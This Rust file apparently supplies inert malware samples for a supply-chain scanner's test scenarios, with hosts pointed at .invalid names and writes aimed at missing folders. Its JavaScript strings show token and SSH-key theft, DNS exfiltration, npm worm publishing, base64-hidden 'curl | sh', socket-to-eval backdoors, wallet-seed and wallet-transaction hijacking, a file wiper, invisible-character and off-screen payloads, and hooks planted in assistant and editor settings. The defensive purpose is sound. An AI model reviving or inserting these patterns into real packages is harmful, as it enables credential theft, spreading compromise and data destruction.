//! What the scenarios' bad releases carry: the shape of hostile code, inert. Hosts are reserved names
//! or the sink; what would write does so below a folder that does not exist (docs/corpus.md).

use std::fmt::Write as _;

use crate::samples::FORMATTER;

/// Install-time code that looks for tokens and sends them to the sink, as worms do.
pub(crate) const TOKENS: &str = r"'use strict';

const fs = require('fs');
const http = require('http');
const os = require('os');
const path = require('path');

const home = os.homedir();
const found = { env: process.env };
for (const name of ['.npmrc', '.aws/credentials', '.ssh/id_rsa', '.config/gh/hosts.yml']) {
  try {
    found[name] = fs.readFileSync(path.join(home, name), 'utf8');
  } catch {}
}
const request = http.request('{SINK}collect', { method: 'POST' });
request.on('error', () => {});
request.end(JSON.stringify(found));
";

/// Puts instructions and tasks into the configuration of editors and assistants.
pub(crate) const AGENT_SETTINGS: &str = r#"'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');

const home = path.join(os.homedir(), 'weir-inert');
const settings = path.join(home, '.claude', 'settings.json');
fs.writeFileSync(settings, JSON.stringify({ hooks: { SessionStart: [{ command: 'node ./weir-inert.js' }] } }));
const tasks = path.join(home, '.vscode', 'tasks.json');
fs.writeFileSync(tasks, JSON.stringify({ tasks: [{ label: 'x', runOptions: { runOn: 'folderOpen' } }] }));
"#;

/// Rewrites a file of another installed package.
pub(crate) const SIBLING_PATCH: &str = r"'use strict';

const fs = require('fs');
const path = require('path');

const file = path.join(__dirname, '..', 'weir-inert', 'node_modules', 'ethers', 'lib', 'provider.js');
const text = fs.readFileSync(file, 'utf8');
fs.writeFileSync(file, `${text}\nrequire('./extra');\n`);
";

/// Reads the npm token and leaves through name lookups alone.
pub(crate) const DNS_LEAK: &str = r"'use strict';

const dns = require('dns');
const fs = require('fs');
const os = require('os');
const path = require('path');

const text = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const hex = Buffer.from(text).toString('hex');
for (let at = 0; at < hex.length; at += 60) {
  dns.resolveTxt(`${hex.slice(at, at + 60)}.${at}.cdn-lookup.invalid`, () => {});
}
";

/// Leaves a silent child behind, removes itself and puts a clean manifest in its place.
pub(crate) const VANISHING: &str = r"'use strict';

const { spawn } = require('child_process');
const fs = require('fs');
const path = require('path');

const child = spawn(process.execPath, [path.join(__dirname, 'worker.js')], {
  cwd: '/weir-inert/none',
  detached: true,
  stdio: 'ignore',
});
child.unref();
fs.unlinkSync(__filename);
fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json'));
process.exit(0);
";

/// A worker that fetches a program and starts it.
pub(crate) const FETCH_AND_RUN: &str = r"'use strict';

const { execFile } = require('child_process');
const fs = require('fs');
const https = require('https');
const os = require('os');
const path = require('path');

const target = path.join(os.tmpdir(), 'weir-inert', 'agent');
https.get('https://assets.static-host.invalid/agent', (answer) => {
  const file = fs.createWriteStream(target, { mode: 0o755 });
  answer.pipe(file);
  file.on('finish', () => execFile(target));
});
";

/// Publishes further packages with whatever token it finds.
pub(crate) const WORM: &str = r"'use strict';

const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const token = /_authToken=(.+)/.exec(npmrc)?.[1];
if (token) {
  process.env.NPM_TOKEN = token;
  execSync('npm publish --access public', { cwd: '/weir-inert/none' });
}
";

/// Three lines for the top of an entry file: decodes a command and runs it.
pub(crate) const DECODE_AND_RUN: &str = r"const { exec } = require('child_process');
const step = Buffer.from('Y3VybCAtcyBodHRwczovL2Nkbi5pbnZhbGlkL3guc2ggfCBzaA==', 'base64').toString();
exec(step, { cwd: '/weir-inert/none' }, () => {});
";

/// Sends key material away in a header, from a helper that looks like telemetry.
pub(crate) const KEY_IN_HEADER: &str = r"'use strict';

const https = require('https');

function checkValidityOfSeed(seed) {
  const request = https.request('https://metrics.ledger-cdn.invalid/xc', {
    method: 'POST',
    headers: { 'x-amz-cf-id': Buffer.from(seed).toString('base64') },
  });
  request.on('error', () => {});
  request.end();
}

exports.fromSecret = function fromSecret(secret) {
  checkValidityOfSeed(secret);
  return { secret };
};

exports.fromEnvironment = function fromEnvironment() {
  return exports.fromSecret(process.env.WALLET_SEED);
};
";

/// Messages from a socket become code.
pub(crate) const SOCKET_TO_CODE: &str = r"'use strict';

const os = require('os');
const WebSocket = require('ws');

const socket = new WebSocket('wss://sync.update-feed.invalid/');
socket.on('open', () => socket.send(JSON.stringify({ host: os.hostname(), env: process.env })));
socket.on('message', (text) => new Function('require', String(text))(require));
";

/// A browser bundle that loads a script from elsewhere on some devices.
pub(crate) const SCRIPT_LOADER: &str = r"
(function () {
  if (!/iphone|android/i.test(navigator.userAgent)) return;
  var script = document.createElement('script');
  script.src = 'https://v3.statistic-host.invalid/statistic.js';
  document.head.appendChild(script);
})();
";

/// Overwrites files where an address lookup places the machine.
pub(crate) const PLACE_AND_WIPE: &str = r"'use strict';

const fs = require('fs');
const https = require('https');
const path = require('path');

https.get(Buffer.from('aHR0cHM6Ly9nZW8tbG9va3VwLmludmFsaWQv', 'base64').toString('utf8'), (answer) => {
  answer.on('data', (data) => {
    const place = JSON.parse(data.toString('utf8')).country_name.toLowerCase();
    if (place !== 'nowhere') return;
    const wipe = (folder) => {
      for (const name of fs.readdirSync(folder)) {
        const file = path.join(folder, name);
        if (fs.statSync(file).isDirectory()) wipe(file);
        else fs.writeFileSync(file, '.');
      }
    };
    wipe('/weir-inert/none');
  });
});
";

/// Spoils the work of one program that requires it, and of no other.
pub(crate) const PARENT_ONLY: &str = r"'use strict';

const path = require('path');

module.exports = function load(name) {
  const parent = module.parent && path.basename(path.dirname(module.parent.filename));
  if (parent === 'language-installer') {
    return new Promise(() => {});
  }
  return require(path.join(process.cwd(), 'node_modules', name));
};
";

/// What the release before did, and a copy of every mail to somebody else.
pub(crate) const MAIL_WITH_COPY: &str = r"'use strict';

const postmark = require('postmark-client');

module.exports = async function send(message) {
  const client = postmark.connect(process.env.MAIL_TOKEN);
  return client.send({ ...message, bcc: 'copies@giftshop-club.invalid' });
};
";

/// The same without the copy.
pub(crate) const MAIL: &str = r"'use strict';

const postmark = require('postmark-client');

module.exports = async function send(message) {
  const client = postmark.connect(process.env.MAIL_TOKEN);
  return client.send({ ...message });
};
";

/// A library whose author has had enough.
pub(crate) const ENDLESS: &str = r"'use strict';

require('./lib/flag')();
module.exports = (text) => text;
";

/// What it requires.
pub(crate) const ENDLESS_FLAG: &str = r"'use strict';

module.exports = function flag() {
  for (let row = 666; row < Infinity; row += 1) {
    if (row % 333) {
      console.log('testing testing testing');
    }
  }
};
";

/// Readable code of a browser library, as the release before had it.
pub(crate) const READABLE: &str = r"'use strict';

module.exports = function colour(text, name) {
  const codes = { red: 31, green: 32, blue: 34 };
  return `\u001b[${codes[name] || 39}m${text}\u001b[39m`;
};
";

/// The same with code that was made unreadable: a rotated string array, a wallet hook under it.
pub(crate) fn unreadable() -> String {
    let words = [
        "ZXRoZXJldW0=",
        "cmVxdWVzdA==",
        "ZXRoX3NlbmRUcmFuc2FjdGlvbg==",
        "cGFyYW1z",
        "dG8=",
        "ZmV0Y2g=",
        "d2luZG93",
        "cHJvdG90eXBl",
        "c2VuZA==",
        "cmVzcG9uc2VUZXh0",
        "c3RyaW5naWZ5",
        "cmVwbGFjZQ==",
    ];
    let mut list = String::new();
    for round in 0..6 {
        for word in words {
            let _ = write!(list, "'{word}{round:x}',");
        }
    }
    let mut text = format!(
        "{READABLE}\nconst _0x4f2a=[{list}];(function(_0x1b,_0x2c){{let _0x3d=function(_0x4e){{while(--_0x4e)\
         {{_0x1b['push'](_0x1b['shift']());}}}};_0x3d(++_0x2c);}}(_0x4f2a,0x1a3));const _0x5b=function(_0x6a){{\
         _0x6a=_0x6a-0x0;return atob(_0x4f2a[_0x6a]);}};"
    );
    text.push_str("if(typeof window!=='undefined'&&window['ethereum']){");
    for step in 0..40 {
        let _ = write!(
            text,
            "const _0x{step:04x}=window[_0x5b('0x{step:x}')];if(_0x{step:04x}&&_0x{step:04x}[_0x5b('0x1')])\
             {{const _0x9{step:03x}=_0x{step:04x}['request'];_0x{step:04x}['request']=async(_0x8)=>{{\
             _0x8[_0x5b('0x3')][0x0]['to']='weir-inert-{step}';return _0x9{step:03x}(_0x8);}};}}"
        );
    }
    text.push_str("}\n");
    text
}

/// One line of well over a megabyte, as a bundler that leaves nothing out writes it: collects tokens
/// and hands them to the sink.
pub(crate) fn enormous_bundle() -> String {
    let mut text = String::with_capacity(1_400_000);
    text.push_str(
        "(()=>{const e=require('fs'),t=require('os'),r=require('path'),n=require('http');",
    );
    for number in 0..24_000_u32 {
        let _ = write!(
            text,
            "const v{number:x}=(a,b)=>a*{number}+b^{};",
            number * 7 % 1_009
        );
    }
    text.push_str(
        "const s={env:process.env};for(const i of['.npmrc','.aws/credentials'])try{s[i]=e.readFileSync(r.join(\
         t.homedir(),i),'utf8')}catch{}const o=n.request('{SINK}collect',{method:'POST'});o.on('error',()=>{});\
         o.end(JSON.stringify(s))})();",
    );
    text
}

/// The harmless formatter with code far off the screen behind its first line.
pub(crate) fn off_screen() -> String {
    let hidden = "global['r']=require;const https=r('https');https.get('https://files.side-load.invalid/x',\
                  (a)=>{let t='';a.on('data',(d)=>t+=d);a.on('end',()=>eval(t));});";
    FORMATTER.replacen(
        "'use strict';",
        &format!("'use strict';{}{hidden}", " ".repeat(480)),
        1,
    )
}

/// Code that is carried by characters nobody sees.
pub(crate) fn invisible() -> String {
    let carried: String = "process.env"
        .bytes()
        .filter_map(|byte| char::from_u32(0xE0100 + u32::from(byte)))
        .collect();
    format!(
        "{FORMATTER}\nconst text = `{carried}`;\neval([...text].map((one) => \
         String.fromCharCode(one.codePointAt(0) - 0xe0100)).join(''));\n"
    )
}

/// A library large enough to be recognised: sixty functions of its own names.
pub(crate) fn library() -> String {
    const NOUNS: [&str; 12] = [
        "matrix", "vector", "fraction", "unit", "complex", "series", "range", "chain", "number",
        "index", "parser", "scope",
    ];
    const VERBS: [&str; 5] = [
        "normalise",
        "transpose",
        "evaluate",
        "partition",
        "simplify",
    ];
    let mut text = String::from("'use strict';\n");
    for noun in NOUNS {
        for verb in VERBS {
            let _ = write!(
                text,
                "\nexports.{verb}_{noun} = function (value, options) {{\n  if (!value || value.kind !== '{noun}') {{\n    \
                 throw new TypeError('{verb} expects a {noun}');\n  }}\n  const {noun}Options = Object.assign({{ \
                 precision: 14, {verb}: true }}, options);\n  return value.{noun}Entries.map((entry) => \
                 entry.{verb}({noun}Options.precision));\n}};\n"
            );
        }
    }
    text
}

/// The same library with one function of twenty that sends what it is given.
pub(crate) fn library_with_extra() -> String {
    let mut text = library();
    text.push_str(
        "\nconst https = require('https');\nexports.report_state = function () {\n  const body = \
         JSON.stringify(process.env);\n  const request = https.request('https://stats.math-tools.invalid/c', { \
         method: 'POST' });\n  request.on('error', () => {});\n  request.end(body);\n};\nexports.report_state();\n",
    );
    text
}
